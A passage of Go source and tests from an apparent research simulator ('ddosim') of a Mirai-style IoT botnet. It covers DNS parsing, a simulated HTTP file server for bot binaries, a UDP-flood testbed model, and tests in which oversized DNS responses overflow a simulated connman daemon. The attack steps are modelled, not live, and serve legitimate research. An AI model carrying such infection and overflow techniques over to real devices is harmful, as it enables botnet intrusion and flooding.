		rec.Data = append([]byte(nil), b[off:off+rdlen]...)
		off += rdlen
		m.Answers = append(m.Answers, rec)
	}
	return m, nil
}

func readName(b []byte, off int) (string, int, error) {
	var labels []string
	for {
		if off >= len(b) {
			return "", 0, ErrTruncated
		}
		l := int(b[off])
		switch {
		case l == 0:
			return strings.Join(labels, "."), off + 1, nil
		case l&0xc0 == 0xc0:
			// Compression pointer: resolve one level (no chains needed
			// for our traffic).
			if off+1 >= len(b) {
				return "", 0, ErrTruncated
			}
			ptr := int(binary.BigEndian.Uint16(b[off:off+2]) & 0x3fff)
			if ptr >= off {
				return "", 0, ErrBadName
			}
			suffix, _, err := readName(b, ptr)
			if err != nil {
				return "", 0, err
			}
			labels = append(labels, suffix)
			return strings.Join(labels, "."), off + 2, nil
		case l > 63:
			return "", 0, ErrBadName
		default:
			if off+1+l > len(b) {
				return "", 0, ErrTruncated
			}
			labels = append(labels, string(b[off+1:off+1+l]))
			off += 1 + l
		}
	}
}

// String summarizes the message for traces.
func (m *Message) String() string {
	kind := "query"
	if m.IsResponse() {
		kind = "response"
	}
	name := "?"
	if len(m.Questions) > 0 {
		name = m.Questions[0].Name
	}
	return fmt.Sprintf("dns %s id=%d %s q=%d a=%d", kind, m.ID, name, len(m.Questions), len(m.Answers))
}
