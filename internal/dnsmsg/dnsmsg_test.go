package dnsmsg

import (
	"bytes"
	"testing"
	"testing/quick"
)

func TestQueryRoundTrip(t *testing.T) {
	q := NewQuery(0x1234, "connectivity-check.example.com", TypeA)
	got, err := Decode(q.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if got.ID != 0x1234 {
		t.Fatalf("ID = %#x", got.ID)
	}
	if got.IsResponse() {
		t.Fatal("query decoded as response")
	}
	if len(got.Questions) != 1 {
		t.Fatalf("questions = %d", len(got.Questions))
	}
	if got.Questions[0].Name != "connectivity-check.example.com" {
		t.Fatalf("name = %q", got.Questions[0].Name)
	}
	if got.Questions[0].Type != TypeA || got.Questions[0].Class != ClassIN {
		t.Fatalf("type/class = %d/%d", got.Questions[0].Type, got.Questions[0].Class)
	}
}

func TestResponseRoundTrip(t *testing.T) {
	q := NewQuery(7, "x.io", TypeTXT)
	payload := []byte{0x41, 0x00, 0xff, 0x41, 0x90, 0x90} // binary RDATA incl. NULs
	r := NewResponse(q, TypeTXT, 60, payload)
	got, err := Decode(r.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if !got.IsResponse() {
		t.Fatal("response flag lost")
	}
	if got.ID != 7 {
		t.Fatalf("ID = %d, want matching query", got.ID)
	}
	if len(got.Answers) != 1 {
		t.Fatalf("answers = %d", len(got.Answers))
	}
	a := got.Answers[0]
	if a.Name != "x.io" || a.Type != TypeTXT || a.TTL != 60 {
		t.Fatalf("answer = %+v", a)
	}
	if !bytes.Equal(a.Data, payload) {
		t.Fatalf("RDATA corrupted: %x", a.Data)
	}
}

func TestLargeBinaryRDATA(t *testing.T) {
	// ROP payloads are a few hundred bytes of arbitrary binary; they
	// must survive the round trip byte-exact.
	payload := make([]byte, 600)
	for i := range payload {
		payload[i] = byte(i * 7)
	}
	q := NewQuery(1, "a.b", TypeA)
	got, err := Decode(NewResponse(q, TypeA, 1, payload).Encode())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Answers[0].Data, payload) {
		t.Fatal("payload corrupted in transit")
	}
}

func TestDecodeTruncated(t *testing.T) {
	q := NewQuery(1, "example.com", TypeA)
	wire := q.Encode()
	for n := 0; n < len(wire); n++ {
		if _, err := Decode(wire[:n]); err == nil {
			t.Fatalf("Decode accepted %d/%d bytes", n, len(wire))
		}
	}
}

func TestRootName(t *testing.T) {
	q := NewQuery(1, "", TypeA)
	got, err := Decode(q.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if got.Questions[0].Name != "" {
		t.Fatalf("root name = %q", got.Questions[0].Name)
	}
}

func TestTrailingDotName(t *testing.T) {
	q := NewQuery(1, "example.com.", TypeA)
	got, err := Decode(q.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if got.Questions[0].Name != "example.com" {
		t.Fatalf("name = %q", got.Questions[0].Name)
	}
}

func TestCompressionPointer(t *testing.T) {
	// Hand-build a response whose answer name is a pointer to the
	// question name at offset 12.
	q := NewQuery(9, "ptr.example", TypeA)
	wire := q.Encode()
	wire[7] = 1                           // ANCOUNT = 1
	wire = append(wire, 0xc0, 12)         // pointer to question name
	wire = append(wire, 0, 1, 0, 1)       // TYPE A, CLASS IN
	wire = append(wire, 0, 0, 0, 5)       // TTL
	wire = append(wire, 0, 4, 1, 2, 3, 4) // RDLENGTH 4 + RDATA
	got, err := Decode(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.Answers[0].Name != "ptr.example" {
		t.Fatalf("pointer name = %q", got.Answers[0].Name)
	}
}

func TestForwardPointerRejected(t *testing.T) {
	wire := NewQuery(9, "x", TypeA).Encode()
	wire[7] = 1
	wire = append(wire, 0xc0, 200) // forward/self pointer
	wire = append(wire, 0, 1, 0, 1, 0, 0, 0, 5, 0, 0)
	if _, err := Decode(wire); err == nil {
		t.Fatal("forward compression pointer accepted")
	}
}

func TestStringer(t *testing.T) {
	q := NewQuery(3, "a.b", TypeA)
	if q.String() == "" {
		t.Fatal("empty String")
	}
	r := NewResponse(q, TypeA, 1, nil)
	if r.String() == q.String() {
		t.Fatal("query and response render identically")
	}
}

// Property: encode/decode round-trips arbitrary RDATA.
func TestPropertyRDATARoundTrip(t *testing.T) {
	f := func(id uint16, data []byte) bool {
		if len(data) > 60000 {
			data = data[:60000]
		}
		q := NewQuery(id, "dev.local", TypeTXT)
		got, err := Decode(NewResponse(q, TypeTXT, 300, data).Encode())
		if err != nil {
			return false
		}
		return got.ID == id && bytes.Equal(got.Answers[0].Data, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: Decode never panics on arbitrary input.
func TestPropertyDecodeRobust(t *testing.T) {
	f := func(b []byte) bool {
		defer func() {
			if recover() != nil {
				t.Fatal("Decode panicked")
			}
		}()
		_, _ = Decode(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}
