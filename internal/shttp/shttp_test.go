package shttp

import (
	"bytes"
	"errors"
	"net/netip"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

func setup(t *testing.T) (*sim.Scheduler, *netsim.Node, *netsim.Node) {
	t.Helper()
	sched := sim.NewScheduler(5)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	client := star.AttachHost("client", 10*netsim.Mbps, sim.Millisecond, 0)
	server := star.AttachHost("server", 10*netsim.Mbps, sim.Millisecond, 0)
	return sched, client, server
}

func TestGetStaticRoute(t *testing.T) {
	sched, client, server := setup(t)
	srv, err := NewServer(server, 80)
	if err != nil {
		t.Fatal(err)
	}
	srv.Handle("/bins/mirai.x86_64", []byte("ELF:mirai:x86_64"))

	var body []byte
	var gerr error
	url := "http://" + server.Addr4().String() + "/bins/mirai.x86_64"
	Get(client, url, func(b []byte, err error) { body, gerr = b, err })
	if err := sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if gerr != nil {
		t.Fatal(gerr)
	}
	if string(body) != "ELF:mirai:x86_64" {
		t.Fatalf("body = %q", body)
	}
	if srv.Requests != 1 {
		t.Fatalf("requests = %d", srv.Requests)
	}
}

func TestGetLargeBinary(t *testing.T) {
	sched, client, server := setup(t)
	srv, err := NewServer(server, 80)
	if err != nil {
		t.Fatal(err)
	}
	big := make([]byte, 300*1024)
	for i := range big {
		big[i] = byte(i)
	}
	srv.Handle("/big", big)
	var body []byte
	var gerr error
	Get(client, "http://"+server.Addr4().String()+"/big", func(b []byte, err error) { body, gerr = b, err })
	if err := sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if gerr != nil {
		t.Fatal(gerr)
	}
	if !bytes.Equal(body, big) {
		t.Fatalf("large download corrupted: %d bytes", len(body))
	}
}

func TestGet404(t *testing.T) {
	sched, client, server := setup(t)
	srv, err := NewServer(server, 80)
	if err != nil {
		t.Fatal(err)
	}
	var gerr error
	called := false
	Get(client, "http://"+server.Addr4().String()+"/missing", func(b []byte, err error) {
		called, gerr = true, err
	})
	if err := sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if !called {
		t.Fatal("callback never fired")
	}
	if !errors.Is(gerr, ErrBadStatus) {
		t.Fatalf("err = %v, want ErrBadStatus", gerr)
	}
	if srv.NotFound != 1 {
		t.Fatalf("NotFound = %d", srv.NotFound)
	}
}

func TestGetConnectionRefused(t *testing.T) {
	sched, client, server := setup(t)
	var gerr error
	Get(client, "http://"+server.Addr4().String()+":81/x", func(b []byte, err error) { gerr = err })
	if err := sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !errors.Is(gerr, ErrConnFailed) {
		t.Fatalf("err = %v, want ErrConnFailed", gerr)
	}
}

func TestHandleFunc(t *testing.T) {
	sched, client, server := setup(t)
	srv, err := NewServer(server, 80)
	if err != nil {
		t.Fatal(err)
	}
	srv.HandleFunc(func(path string) ([]byte, bool) {
		if path == "/dynamic" {
			return []byte("generated"), true
		}
		return nil, false
	})
	var body []byte
	Get(client, "http://"+server.Addr4().String()+"/dynamic", func(b []byte, err error) { body = b })
	if err := sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if string(body) != "generated" {
		t.Fatalf("body = %q", body)
	}
}

func TestGetIPv6URL(t *testing.T) {
	sched, client, server := setup(t)
	if _, err := NewServer(server, 80); err != nil {
		t.Fatal(err)
	}
	srv := server.Network().Node("server")
	_ = srv
	var gerr error
	called := false
	Get(client, "http://["+server.Addr6().String()+"]/", func(b []byte, err error) { called, gerr = true, err })
	if err := sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if !called {
		t.Fatal("callback never fired")
	}
	// Root path unregistered: 404 is the expected outcome; transport
	// over IPv6 worked if we got an HTTP-level error.
	if !errors.Is(gerr, ErrBadStatus) {
		t.Fatalf("err = %v, want ErrBadStatus over IPv6", gerr)
	}
}

func TestParseURL(t *testing.T) {
	ap, path, err := ParseURL("http://10.0.0.1/a/b")
	if err != nil || ap != netip.MustParseAddrPort("10.0.0.1:80") || path != "/a/b" {
		t.Fatalf("got %v %q %v", ap, path, err)
	}
	ap, path, err = ParseURL("http://10.0.0.1:8080/x")
	if err != nil || ap.Port() != 8080 || path != "/x" {
		t.Fatalf("got %v %q %v", ap, path, err)
	}
	ap, _, err = ParseURL("http://[fd00::1]:8080/x")
	if err != nil || ap != netip.MustParseAddrPort("[fd00::1]:8080") {
		t.Fatalf("got %v %v", ap, err)
	}
	if _, _, err := ParseURL("ftp://x/"); !errors.Is(err, ErrBadURL) {
		t.Fatalf("ftp err = %v", err)
	}
	if _, _, err := ParseURL("http://not-an-ip/"); err == nil {
		t.Fatal("hostname accepted (no DNS in shttp)")
	}
	ap, path, err = ParseURL("http://10.0.0.1")
	if err != nil || path != "/" {
		t.Fatalf("bare host: %v %q %v", ap, path, err)
	}
}

func TestParseResponseHead(t *testing.T) {
	n, err := parseResponseHead("HTTP/1.0 200 OK\r\nContent-Length: 42")
	if err != nil || n != 42 {
		t.Fatalf("n=%d err=%v", n, err)
	}
	if _, err := parseResponseHead("HTTP/1.0 200 OK"); err == nil {
		t.Fatal("missing content-length accepted")
	}
	if _, err := parseResponseHead("garbage"); err == nil {
		t.Fatal("garbage accepted")
	}
	if _, err := parseResponseHead("HTTP/1.0 500 Oops\r\nContent-Length: 0"); !errors.Is(err, ErrBadStatus) {
		t.Fatal("500 not flagged")
	}
}
