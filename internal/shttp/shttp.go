// Package shttp is a minimal HTTP/1.0 implementation over netsim's
// simulated TCP. It stands in for the Apache file server the paper
// installs on Attacker and the curl invocations the infection script
// performs: GET requests with Content-Length responses, nothing more.
package shttp

import (
	"errors"
	"fmt"
	"net/netip"
	"strconv"
	"strings"

	"ddosim/internal/netsim"
)

// Errors returned by the client.
var (
	ErrBadURL     = errors.New("shttp: malformed URL")
	ErrBadStatus  = errors.New("shttp: non-200 status")
	ErrBadReply   = errors.New("shttp: malformed response")
	ErrConnFailed = errors.New("shttp: connection failed")
)

// DefaultPort is used when a URL carries no explicit port.
const DefaultPort = 80

// Handler resolves a request path to content. ok=false yields 404.
type Handler func(path string) (body []byte, ok bool)

// Server is a static-content HTTP server bound to a node — the File
// Server sub-component of Attacker.
type Server struct {
	node     *netsim.Node
	routes   map[string][]byte
	fallback Handler

	Requests uint64
	NotFound uint64
}

// NewServer starts an HTTP server on node:port.
func NewServer(node *netsim.Node, port uint16) (*Server, error) {
	s := &Server{node: node, routes: make(map[string][]byte)}
	if _, err := node.ListenTCP(port, s.accept); err != nil {
		return nil, fmt.Errorf("shttp: listen: %w", err)
	}
	return s, nil
}

// Handle serves body at path.
func (s *Server) Handle(path string, body []byte) { s.routes[path] = body }

// HandleFunc installs a fallback handler consulted when no static
// route matches.
func (s *Server) HandleFunc(h Handler) { s.fallback = h }

func (s *Server) accept(c *netsim.TCPConn) {
	var buf []byte
	c.SetDataHandler(func(data []byte) {
		buf = append(buf, data...)
		idx := strings.Index(string(buf), "\r\n\r\n")
		if idx < 0 {
			return
		}
		s.Requests++
		path := parseRequestPath(string(buf[:idx]))
		body, ok := s.lookup(path)
		if !ok {
			s.NotFound++
			_ = c.Send([]byte("HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n"))
			c.Close()
			return
		}
		head := fmt.Sprintf("HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n", len(body))
		_ = c.Send(append([]byte(head), body...))
		c.Close()
	})
}

func (s *Server) lookup(path string) ([]byte, bool) {
	if body, ok := s.routes[path]; ok {
		return body, true
	}
	if s.fallback != nil {
		return s.fallback(path)
	}
	return nil, false
}

func parseRequestPath(head string) string {
	line, _, _ := strings.Cut(head, "\r\n")
	parts := strings.Fields(line)
	if len(parts) < 2 || parts[0] != "GET" {
		return ""
	}
	return parts[1]
}

// ParseURL splits an http:// URL into its endpoint and path. The host
// must be an IP literal (the simulation has no global DNS; name
// resolution is itself part of the experiment).
func ParseURL(url string) (netip.AddrPort, string, error) {
	rest, ok := strings.CutPrefix(url, "http://")
	if !ok {
		return netip.AddrPort{}, "", ErrBadURL
	}
	hostport, path, found := strings.Cut(rest, "/")
	if !found {
		path = ""
	}
	path = "/" + path
	var ap netip.AddrPort
	if strings.Contains(hostport, "]:") || (!strings.Contains(hostport, "[") && strings.Count(hostport, ":") == 1) {
		p, err := netip.ParseAddrPort(hostport)
		if err != nil {
			return netip.AddrPort{}, "", fmt.Errorf("%w: %v", ErrBadURL, err)
		}
		ap = p
	} else {
		host := strings.TrimSuffix(strings.TrimPrefix(hostport, "["), "]")
		a, err := netip.ParseAddr(host)
		if err != nil {
			return netip.AddrPort{}, "", fmt.Errorf("%w: %v", ErrBadURL, err)
		}
		ap = netip.AddrPortFrom(a, DefaultPort)
	}
	return ap, path, nil
}

// Get fetches url from node and invokes cb exactly once with the body
// or an error.
func Get(node *netsim.Node, url string, cb func(body []byte, err error)) {
	ap, path, err := ParseURL(url)
	if err != nil {
		cb(nil, err)
		return
	}
	done := false
	finish := func(body []byte, err error) {
		if done {
			return
		}
		done = true
		cb(body, err)
	}
	node.DialTCP(ap, func(c *netsim.TCPConn, err error) {
		if err != nil {
			finish(nil, fmt.Errorf("%w: %v", ErrConnFailed, err))
			return
		}
		var buf []byte
		var want = -1
		var bodyStart int
		c.SetDataHandler(func(data []byte) {
			buf = append(buf, data...)
			if want < 0 {
				idx := strings.Index(string(buf), "\r\n\r\n")
				if idx < 0 {
					return
				}
				head := string(buf[:idx])
				bodyStart = idx + 4
				n, perr := parseResponseHead(head)
				if perr != nil {
					finish(nil, perr)
					c.Close()
					return
				}
				want = n
			}
			if want >= 0 && len(buf)-bodyStart >= want {
				finish(buf[bodyStart:bodyStart+want], nil)
				c.Close()
			}
		})
		c.SetCloseHandler(func(cerr error) {
			if want >= 0 && len(buf)-bodyStart >= want {
				finish(buf[bodyStart:bodyStart+want], nil)
				return
			}
			if cerr == nil {
				cerr = ErrBadReply
			}
			finish(nil, cerr)
		})
		_ = c.Send([]byte("GET " + path + " HTTP/1.0\r\nHost: " + ap.String() + "\r\n\r\n"))
	})
}

func parseResponseHead(head string) (contentLength int, err error) {
	lines := strings.Split(head, "\r\n")
	if len(lines) == 0 {
		return 0, ErrBadReply
	}
	status := strings.Fields(lines[0])
	if len(status) < 2 || !strings.HasPrefix(status[0], "HTTP/") {
		return 0, ErrBadReply
	}
	if status[1] != "200" {
		return 0, fmt.Errorf("%w: %s", ErrBadStatus, status[1])
	}
	for _, l := range lines[1:] {
		k, v, ok := strings.Cut(l, ":")
		if !ok {
			continue
		}
		if strings.EqualFold(strings.TrimSpace(k), "Content-Length") {
			n, cerr := strconv.Atoi(strings.TrimSpace(v))
			if cerr != nil || n < 0 {
				return 0, ErrBadReply
			}
			return n, nil
		}
	}
	return 0, ErrBadReply
}
