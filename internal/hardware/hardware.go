// Package hardware models the paper's physical validation testbed
// (§IV-D): Raspberry Pi Devs rate-limited to 100–500 kbps on a shared
// 802.11 channel behind a consumer router, flooding a desktop TServer
// whose Wireshark capture measures the received rate.
//
// This is an independently-written model — it shares no code with
// netsim — so comparing its output against DDoSim's reproduces the
// structure of the paper's validation: the same experiment on two
// different substrates should produce similar curves (Fig. 4).
//
// The wireless MAC is a contention-window model of 802.11 DCF: when
// the channel frees, every backlogged station draws a backoff slot
// from its contention window; the unique minimum wins the channel, and
// ties collide (wasting airtime and doubling the colliders' windows).
package hardware

import (
	"math/rand"

	"ddosim/internal/sim"
)

// Config parameterizes one hardware-testbed run.
type Config struct {
	// Seed drives rate sampling, backoff draws, and measurement
	// noise.
	Seed int64
	// NumDevs is the number of Raspberry Pis (the paper sweeps 1–19).
	NumDevs int
	// MinRateBps/MaxRateBps bound each Pi's shaped rate (bits/s);
	// the paper limits them to 100–500 kbps.
	MinRateBps int64
	MaxRateBps int64
	// RatesBps, when non-empty, pins each Pi's shaped rate instead of
	// sampling — the validation experiment configures the *same*
	// devices on both substrates.
	RatesBps []int64
	// AttackSecs is the flood duration.
	AttackSecs int
	// PayloadBytes is the UDP flood payload (Mirai default 512).
	PayloadBytes int
}

// DefaultConfig mirrors the paper's validation settings.
func DefaultConfig(numDevs int) Config {
	return Config{
		Seed:         1,
		NumDevs:      numDevs,
		MinRateBps:   100_000,
		MaxRateBps:   500_000,
		AttackSecs:   100,
		PayloadBytes: 512,
	}
}

// Result is the Wireshark-side measurement.
type Result struct {
	// AvgReceivedKbps is the average received payload rate at
	// TServer over the attack window — the Fig. 4 y-axis.
	AvgReceivedKbps float64
	// Delivered and Collisions count MAC outcomes.
	Delivered  uint64
	Collisions uint64
}

// 802.11g-style MAC/PHY constants.
const (
	phyRateBps   = 54_000_000
	slotTime     = 9 * sim.Microsecond
	difs         = 28 * sim.Microsecond
	sifsPlusAck  = 44 * sim.Microsecond
	macOverheadB = 36 // MAC header + LLC + FCS
	ipUDPHeaderB = 28
	etherHeaderB = 14 // what the capture sees on the wired segment
	cwMin        = 16
	cwMax        = 1024
)

// station is one Pi: a shaped packet source with DCF backoff state.
type station struct {
	rateBps   int64
	backlog   int
	cw        int
	delivered uint64
}

// Run executes the hardware model and returns the measurement.
func Run(cfg Config) Result {
	if cfg.NumDevs <= 0 || cfg.AttackSecs <= 0 {
		return Result{}
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	sched := sim.NewScheduler(cfg.Seed + 1)

	frameBytes := cfg.PayloadBytes + ipUDPHeaderB + macOverheadB
	airTime := difs + phyRateBps64(frameBytes) + sifsPlusAck

	var res Result
	var receivedPayload uint64
	channelFree := sim.Time(0)
	idle := true
	var arbitrate func()

	stations := make([]*station, cfg.NumDevs)
	for i := range stations {
		var rate int64
		if i < len(cfg.RatesBps) {
			rate = cfg.RatesBps[i]
		} else {
			rate = cfg.MinRateBps + rng.Int63n(cfg.MaxRateBps-cfg.MinRateBps+1)
		}
		st := &station{rateBps: rate, cw: cwMin}
		stations[i] = st
		// Shaped arrivals: one frame every wire-time at the Pi's
		// traffic-shaper rate. An arrival wakes an idle channel.
		interval := sim.Time(int64(frameBytes) * 8 * int64(sim.Second) / rate)
		t := sim.NewTicker(sched, interval, func() {
			st.backlog++
			if idle {
				idle = false
				sched.Schedule(0, arbitrate)
			}
		})
		t.StartImmediate()
	}

	// The channel-arbitration loop: at each free instant, contend.
	arbitrate = func() {
		now := sched.Now()
		if now < channelFree {
			sched.ScheduleAt(channelFree, arbitrate)
			return
		}
		var contenders []*station
		for _, st := range stations {
			if st.backlog > 0 {
				contenders = append(contenders, st)
			}
		}
		if len(contenders) == 0 {
			idle = true // next arrival re-arms arbitration
			return
		}
		// Each contender draws a backoff slot; unique minimum wins.
		minSlot, winners := cwMax+1, contenders[:0:0]
		for _, st := range contenders {
			s := rng.Intn(st.cw)
			switch {
			case s < minSlot:
				minSlot, winners = s, append(winners[:0], st)
			case s == minSlot:
				winners = append(winners, st)
			}
		}
		start := now + sim.Time(minSlot)*slotTime
		if len(winners) == 1 {
			w := winners[0]
			w.backlog--
			w.delivered++
			w.cw = cwMin
			res.Delivered++
			// Wireshark on TServer's Ethernet segment sees the
			// Ethernet frame: payload + IP/UDP + Ethernet headers.
			receivedPayload += uint64(cfg.PayloadBytes + ipUDPHeaderB + etherHeaderB)
		} else {
			// Collision: airtime wasted, colliders double their CW.
			res.Collisions++
			for _, w := range winners {
				if w.cw < cwMax {
					w.cw *= 2
				}
			}
		}
		channelFree = start + airTime
		sched.ScheduleAt(channelFree, arbitrate)
	}
	horizon := sim.Time(cfg.AttackSecs) * sim.Second
	if err := sched.Run(horizon); err != nil {
		return res
	}

	// Wireshark-side measurement with a little capture noise.
	kbps := float64(receivedPayload) * 8 / 1000 / float64(cfg.AttackSecs)
	noise := 1 + 0.02*rng.NormFloat64()
	if noise < 0.9 {
		noise = 0.9
	}
	res.AvgReceivedKbps = kbps * noise
	return res
}

func phyRateBps64(bytes int) sim.Time {
	return sim.Time(int64(bytes) * 8 * int64(sim.Second) / phyRateBps)
}
