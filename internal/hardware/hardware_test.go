package hardware

import "testing"

func TestScalesWithDevs(t *testing.T) {
	prev := 0.0
	for _, devs := range []int{1, 5, 10, 19} {
		r := Run(DefaultConfig(devs))
		if r.AvgReceivedKbps <= prev {
			t.Fatalf("devs=%d: %.1f kbps not above previous %.1f", devs, r.AvgReceivedKbps, prev)
		}
		prev = r.AvgReceivedKbps
	}
}

func TestSingleDevNearItsRate(t *testing.T) {
	cfg := DefaultConfig(1)
	cfg.MinRateBps, cfg.MaxRateBps = 300_000, 300_000
	r := Run(cfg)
	// One station at 300 kbps shaped rate: payload throughput is a
	// bit below (headers), with ±2% capture noise.
	if r.AvgReceivedKbps < 230 || r.AvgReceivedKbps > 310 {
		t.Fatalf("single dev at 300kbps delivered %.1f kbps", r.AvgReceivedKbps)
	}
	if r.Collisions != 0 {
		t.Fatalf("single station collided %d times", r.Collisions)
	}
}

func TestNineteenDevsFitOnChannel(t *testing.T) {
	// 19 Pis at <=500 kbps is ~9.5 Mbps payload on a 54 Mbps channel:
	// well within capacity, so delivery should be near-total and the
	// curve near-linear (the paper's Fig. 4 regime).
	cfg := DefaultConfig(19)
	r := Run(cfg)
	// Expected sum of shaped rates ~ 19*300 = 5700 kbps.
	if r.AvgReceivedKbps < 4000 || r.AvgReceivedKbps > 7500 {
		t.Fatalf("19 devs delivered %.1f kbps, want ~5700", r.AvgReceivedKbps)
	}
}

func TestCollisionsAppearWithContention(t *testing.T) {
	cfg := DefaultConfig(19)
	r := Run(cfg)
	if r.Collisions == 0 {
		t.Fatal("19 contending stations never collided")
	}
	if r.Delivered == 0 {
		t.Fatal("nothing delivered")
	}
	// Collisions must be rare relative to deliveries (carrier sensing
	// works).
	if float64(r.Collisions) > 0.2*float64(r.Delivered) {
		t.Fatalf("collision rate too high: %d collisions vs %d deliveries", r.Collisions, r.Delivered)
	}
}

func TestDeterminism(t *testing.T) {
	a := Run(DefaultConfig(7))
	b := Run(DefaultConfig(7))
	if a != b {
		t.Fatalf("same seed diverged: %+v vs %+v", a, b)
	}
	c := Run(Config{Seed: 2, NumDevs: 7, MinRateBps: 100_000, MaxRateBps: 500_000, AttackSecs: 100, PayloadBytes: 512})
	if a == c {
		t.Fatal("different seeds identical")
	}
}

func TestDegenerateConfigs(t *testing.T) {
	if r := Run(Config{}); r.AvgReceivedKbps != 0 {
		t.Fatalf("zero config produced %+v", r)
	}
	if r := Run(Config{NumDevs: -1, AttackSecs: 10}); r.AvgReceivedKbps != 0 {
		t.Fatalf("negative devs produced %+v", r)
	}
}
