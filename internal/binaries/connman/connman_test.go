package connman

import (
	"net/netip"
	"testing"

	imagecat "ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/dnsmsg"
	"ddosim/internal/exploit"
	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
	"ddosim/internal/sim"
)

type rig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *container.Engine
}

func newRig(t testing.TB) *rig {
	t.Helper()
	sched := sim.NewScheduler(13)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &rig{sched: sched, star: star, engine: container.NewEngine(sched, star)}
}

func (r *rig) devContainer(t *testing.T, name string) *container.Container {
	t.Helper()
	img := &container.Image{
		Name: "ddosim/ct-" + name, Tag: "t", Arch: "x86_64",
		Files:     map[string][]byte{"/usr/sbin/connmand": container.BinaryContent(imagecat.BinConnman, "x86_64")},
		ExecPaths: map[string]bool{"/usr/sbin/connmand": true},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(img.Ref(), name, container.LinkConfig{
		Rate: 300 * netsim.Kbps, Delay: sim.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c
}

func TestIdleWithoutResolvConf(t *testing.T) {
	r := newRig(t)
	c := r.devContainer(t, "dev")
	d := New(Config{QueryPeriod: sim.Second})
	c.Spawn(d)
	if err := r.sched.Run(30 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if d.QueriesSent != 0 {
		t.Fatal("daemon queried without a configured nameserver")
	}
}

func TestQueriesConfiguredServerPeriodically(t *testing.T) {
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	queries := 0
	if _, err := server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		if q, err := dnsmsg.Decode(payload); err == nil && !q.IsResponse() {
			queries++
		}
	}); err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	d := New(Config{QueryPeriod: 5 * sim.Second})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if queries < 8 || queries > 14 {
		t.Fatalf("queries in 60s with 5s period = %d, want ~12", queries)
	}
}

func TestBenignResponseHarmless(t *testing.T) {
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	var sock *netsim.UDPSocket
	var err error
	sock, err = server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		q, derr := dnsmsg.Decode(payload)
		if derr != nil {
			return
		}
		// A legitimate A record: 4 bytes, far inside the buffer.
		resp := dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, []byte{93, 184, 216, 34})
		sock.SendTo(src, resp.Encode())
	})
	if err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	var outcomes []procvm.HijackOutcome
	d := New(Config{
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(o procvm.HijackOutcome) { outcomes = append(outcomes, o) },
	})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if len(outcomes) == 0 {
		t.Fatal("no responses parsed")
	}
	for _, o := range outcomes {
		if o.Hijacked || o.Crashed() {
			t.Fatalf("benign response caused %+v", o)
		}
	}
	if d.Proc() == nil || !d.Proc().Alive() {
		t.Fatal("daemon died on benign traffic")
	}
	if d.ResponsesSeen == 0 {
		t.Fatal("no responses counted")
	}
}

func TestGarbageOverflowCrashesDaemon(t *testing.T) {
	// A response with an oversized RDATA of garbage (not a valid
	// chain): daemon must crash and exit, not execute.
	r := newRig(t)
	server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
	var sock *netsim.UDPSocket
	var err error
	garbage := make([]byte, 300)
	for i := range garbage {
		garbage[i] = 0x41
	}
	sock, err = server.BindUDP(53, func(src netip.AddrPort, payload []byte, _ int) {
		q, derr := dnsmsg.Decode(payload)
		if derr != nil {
			return
		}
		sock.SendTo(src, dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, garbage).Encode())
	})
	if err != nil {
		t.Fatal(err)
	}
	c := r.devContainer(t, "dev")
	c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
	var last procvm.HijackOutcome
	d := New(Config{
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(o procvm.HijackOutcome) { last = o },
	})
	c.Spawn(d)
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !last.Crashed() {
		t.Fatalf("garbage overflow outcome = %+v", last)
	}
	if len(c.Procs()) != 0 {
		t.Fatal("crashed daemon still in process table")
	}
}

func TestResponseIDMismatchIgnored(t *testing.T) {
	// Off-path spoofing with the wrong transaction ID must be
